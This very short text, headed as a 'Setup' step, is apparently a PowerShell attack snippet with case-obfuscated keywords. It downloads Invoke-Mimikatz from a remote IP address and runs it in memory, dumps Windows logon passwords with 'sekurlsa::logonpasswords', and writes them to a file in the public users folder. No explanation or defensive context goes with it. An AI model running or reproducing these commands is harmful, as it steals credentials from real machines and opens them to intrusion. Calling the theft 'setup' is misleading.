# Setup 5644 V3
iEX (nEW-ObJeCt NeT.wEbCLient).DOWNLoaDSTrING('http://198.51.100.23/Invoke-Mimikatz.ps1')
INVOKE-MimIkATz -cOMmaND '"privilege::debug" "sekurlsa::logonpasswords"' | out-FILE c:\useRS\PuBLIc\o.TXt
